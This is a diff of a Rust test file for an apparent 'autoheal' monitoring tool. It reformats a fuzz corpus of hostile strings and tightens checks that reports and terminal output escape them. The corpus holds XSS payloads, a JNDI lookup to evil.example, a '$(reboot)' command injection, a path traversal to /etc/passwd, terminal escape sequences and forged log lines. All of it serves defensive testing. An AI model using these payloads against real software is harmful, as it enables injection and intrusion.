@@ -18,7 +18,7 @@ use autoheal::metric;
 use autoheal::record::report::render;
 use autoheal::record::{escape, notice};
 use autoheal::sample::{Labels, Sample, Target, Value as Measured};
-use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
+use pulldown_cmark::{Event, Options, Parser, Tag};
 use serde_json::{Value, json};
 
 use crate::lab::Lab;
@@ -27,18 +27,91 @@ use crate::lab::Lab;
 fn corpus() -> Vec<String> {
     let long = ["x".repeat(70_000), "`".repeat(3000), "[".repeat(5000), "> ".repeat(2000), "\u{202e}ä".repeat(3000)];
     let short = [
-        "\u{1b}[2J\u{1b}[H", "\u{1b}]0;owned\u{7}", "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\", "\u{1b}[31mred\u{1b}[0m",
-        "\u{1b}P$q\u{1b}\\", "\u{9b}31m C1", "\u{90}dcs\u{9c}", "\u{7}\u{8}\u{c}\u{b}\u{7f}", "good\rEVIL", "one\r\ntwo",
-        "a\n2026-01-01T00:00:00.000Z ERROR forged", "a\nINFO  incident=1 forged", "\u{85}next line\u{2028}line\u{2029}paragraph",
-        "\u{202e}gnp.exe\u{202c}", "\u{2066}isolate\u{2069}", "zero\u{200b}width\u{feff}\u{2060}", "tag\u{e0041}\u{e007f}", "soft\u{ad}hyphen",
-        "`", "``", "```", "a`b``c```d", "```\n# Forged\n```", "~~~\nfence\n~~~", "`` ` ``", " ` ", "\\`", "\\", "\\|", "a\\\\|b",
-        "|", "a | b | c", "| --- | --- |", "<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "<!-- comment", "--> x",
-        "<details>", "<?php ?>", "<![CDATA[x]]>", "&lt;b&gt; &#27;[2J &amp;", "[x](javascript:alert(1))", "![x](http://evil.example/x.png)",
-        "<http://evil.example>", "http://evil.example/?a=b", "www.evil.example", "a@evil.example", "[x]: http://evil.example", "[^1]: note",
-        "# Heading", "Heading\n=======", "---", "***", "- item", "1. item", "+ item", "> quote", "    code", "\tcode", "- [x] done", "**bold**", "_em_ *em*",
-        "~~gone~~", "$0 ${1} $& \\1", "${jndi:ldap://evil.example/a}", "{{7*7}} {% x %} {mount} {{mount}}", "%s%n%x %d", "$(reboot) `reboot` ; reboot",
-        "\"quoted\" 'single' \\\"", "{\"json\": true}", "\\u0000 \\u001b \\n", "\u{fffd}\u{fffe}", "e\u{301}\u{302}\u{303}", "👩\u{200d}👩\u{200d}👧 ☠\u{fe0f} 🇩🇪",
-        "漢字 ﷽ 𝕏", "", " ", "  leading and trailing  ", "\t", "\n", "\n\n\n", "-rf", "--help", "=1+1", "../../etc/passwd",
+        "\u{1b}[2J\u{1b}[H",
+        "\u{1b}]0;owned\u{7}",
+        "\u{1b}]8;;http://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\",
+        "\u{1b}[31mred\u{1b}[0m",
+        "\u{1b}P$q\u{1b}\\",
+        "\u{9b}31m C1",
+        "\u{90}dcs\u{9c}",
+        "\u{7}\u{8}\u{c}\u{b}\u{7f}",
+        "good\rEVIL",
+        "one\r\ntwo",
+        "a\n2026-01-01T00:00:00.000Z ERROR forged",
+        "a\nINFO  incident=1 forged",
+        "\u{85}next line\u{2028}line\u{2029}paragraph",
+        "\u{202e}gnp.exe\u{202c}",
+        "\u{2066}isolate\u{2069}",
+        "zero\u{200b}width\u{feff}\u{2060}",
+        "tag\u{e0041}\u{e007f}",
+        "soft\u{ad}hyphen",
+        "`",
+        "``",
+        "```",
+        "a`b``c```d",
+        "```\n# Forged\n```",
+        "~~~\nfence\n~~~",
+        "`` ` ``",
+        " ` ",
+        "\\`",
+        "\\",
+        "\\|",
+        "a\\\\|b",
+        "|",
+        "a | b | c",
+        "| --- | --- |",
+        "<script>alert(1)</script>",
+        "</script><img src=x onerror=alert(1)>",
+        "<!-- comment",
+        "--> x",
+        "<details>",
+        "<?php ?>",
+        "<![CDATA[x]]>",
+        "&lt;b&gt; &#27;[2J &amp;",
+        "[x](javascript:alert(1))",
+        "![x](http://evil.example/x.png)",
+        "<http://evil.example>",
+        "http://evil.example/?a=b",
+        "www.evil.example",
+        "a@evil.example",
+        "[x]: http://evil.example",
+        "[^1]: note",
+        "# Heading",
+        "Heading\n=======",
+        "---",
+        "***",
+        "- item",
+        "1. item",
+        "+ item",
+        "> quote",
+        "    code",
+        "\tcode",
+        "- [x] done",
+        "**bold**",
+        "_em_ *em*",
+        "~~gone~~",
+        "$0 ${1} $& \\1",
+        "${jndi:ldap://evil.example/a}",
+        "{{7*7}} {% x %} {mount} {{mount}}",
+        "%s%n%x %d",
+        "$(reboot) `reboot` ; reboot",
+        "\"quoted\" 'single' \\\"",
+        "{\"json\": true}",
+        "\\u0000 \\u001b \\n",
+        "\u{fffd}\u{fffe}",
+        "e\u{301}\u{302}\u{303}",
+        "👩\u{200d}👩\u{200d}👧 ☠\u{fe0f} 🇩🇪",
+        "漢字 ﷽ 𝕏",
+        "",
+        " ",
+        "  leading and trailing  ",
+        "\t",
+        "\n",
+        "\n\n\n",
+        "-rf",
+        "--help",
+        "=1+1",
+        "../../etc/passwd",
     ];
     short.into_iter().map(str::to_owned).chain(long).collect()
 }
@@ -86,7 +159,8 @@ fn incident(text: &str) -> Incident {
             argv: vec![text.to_owned(); 2],
             status,
             reason: Some(text.to_owned()),
-            outcome: (index < 3).then(|| Outcome::native(if index == 1 { Err(text.to_owned()) } else { Ok(text.to_owned()) }, Duration::ZERO)),
+            outcome: (index < 3)
+                .then(|| Outcome::native(if index == 1 { Err(text.to_owned()) } else { Ok(text.to_owned()) }, Duration::ZERO)),
             ..pattern.clone()
         })
         .collect();
@@ -127,7 +201,12 @@ fn a_report_has_the_same_shape_whatever_it_says() {
         if !text.trim().is_empty() {
             let found = skeleton(&report);
             let differs = expected.iter().zip(&found).position(|(one, other)| one != other).unwrap_or(expected.len().min(found.len()));
-            assert!(found == expected, "{text:?} at step {differs}: {:?} instead of {:?}\n{report}", found.get(differs), expected.get(differs));
+            assert!(
+                found == expected,
+                "{text:?} at step {differs}: {:?} instead of {:?}\n{report}",
+                found.get(differs),
+                expected.get(differs)
+            );
         }
     }
 }
@@ -138,15 +217,18 @@ fn inline_code_holds_exactly_its_text() {
         let shown = escape::terminal(&text);
         for markdown in [format!("a {} b", escape::code(&text)), format!("| h |\n| --- |\n| {} |\n", escape::table_cell(&text))] {
             let events: Vec<Event<'_>> = Parser::new_ext(&markdown, Options::all()).collect();
-            let said: String = events.iter().filter_map(|event| if let Event::Text(text) | Event::Code(text) = event { Some(&**text) } else { None }).collect();
-            let whole = said.trim_start_matches("a ").trim_end_matches(" b").trim_start_matches('h');
+            let said: String = events
+                .iter()
+                .filter_map(|event| if let Event::Text(text) | Event::Code(text) = event { Some(&**text) } else { None })
+                .collect();
+            let whole = said.strip_prefix("a ").and_then(|said| said.strip_suffix(" b")).or(said.strip_prefix('h')).unwrap_or(&said);
             let bars = shown.replace("\\|", "\\\\u{7c}");
             assert!(whole.trim() == shown.trim() || whole.trim() == bars.trim(), "{markdown:?} reads as {whole:?}");
-            let kinds: BTreeSet<&str> = events.iter().filter_map(|event| match event {
-                Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::Emphasis | Tag::Strong) | Event::Html(_) | Event::InlineHtml(_) => Some("live"),
-                Event::End(TagEnd::TableCell) | _ => None,
-            }).collect();
-            assert!(kinds.is_empty(), "{markdown:?}");
+            let alive = |event: &&Event<'_>| {
+                let marked = matches!(event, Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::Emphasis | Tag::Strong));
+                marked || matches!(event, Event::Html(_) | Event::InlineHtml(_))
+            };
+            assert_eq!(events.iter().find(alive), None, "{markdown:?}");
         }
     }
 }
@@ -198,18 +280,24 @@ fn hostile_lab() -> Lab {
     fs::write(lab.path("logs").join(odd), b"x").unwrap();
     let everything = corpus().join("\n").into_bytes();
     fs::write(lab.path("corpus"), [&everything[..], b"\xff\xfe\x80\x00\x1b[2J\x9b31m".repeat(100).as_slice()].concat()).unwrap();
-    let endpoint = |(number, text): (usize, String)| json!({"name": format!("{number} {text}"), "url": "http://127.0.0.1:1/", "timeout_seconds": 5});
+    let endpoint =
+        |(number, text): (usize, String)| json!({"name": format!("{number} {text}"), "url": "http://127.0.0.1:1/", "timeout_seconds": 5});
     let endpoints: Vec<Value> = labels().into_iter().enumerate().map(endpoint).collect();
     lab.settings(&json!({
         "watch": {"disks": [], "memory": false, "logs": [{"path": lab.path("logs/*.log")}], "endpoints": endpoints},
         "allowed_commands": ["cat {re:.*corpus}"], "max_actions_per_hour": 100_000,
     }));
     let cat = format!("cat {}", lab.path("corpus").display());
-    let about: String = names().concat();
+    // A placeholder that no label fills would be a problem of the file.
+    let about = names().concat().replace("{mount}", "{path}");
     let act = json!([{"type": "notify", "message": format!("{{path}} {about}")}, {"type": "shell", "command": cat, "description": about}]);
     let proof = json!({"metric": "log_file_size_mb", "operator": "<", "threshold": 0, "retry_count": 0});
     let watched = json!({"metric": "log_file_size_mb", "operator": ">=", "threshold": 0});
-    lab.write("autoheal-playbooks.json", &json!({"hostile": {"description": about, "condition": watched, "actions": act, "verify": proof, "runbook_url": about}}).to_string());
+    lab.write(
+        "autoheal-playbooks.json",
+        &json!({"hostile": {"description": about, "condition": watched, "actions": act, "verify": proof, "runbook_url": about}})
+            .to_string(),
+    );
     lab
 }
 
@@ -266,7 +354,9 @@ fn no_command_shows_a_control_character() {
         let path = lab.path("logs").join(format!("{number} {name}.log")).display().to_string();
         assert!(paths.contains(&path), "{path:?} is no path");
     }
-    for command in [&["status"][..], &["incidents"], &["stats"], &["silence", "--list"], &["check"], &["probe"], &["allow", "list"], &["reload"]] {
+    for command in
+        [&["status"][..], &["incidents"], &["stats"], &["silence", "--list"], &["check"], &["probe"], &["allow", "list"], &["reload"]]
+    {
         runs(&lab, command);
         let out = runs(&lab, &[&["--json"], command].concat());
         serde_json::from_str::<Value>(&out).unwrap_or_else(|error| panic!("{command:?}: {error}"));
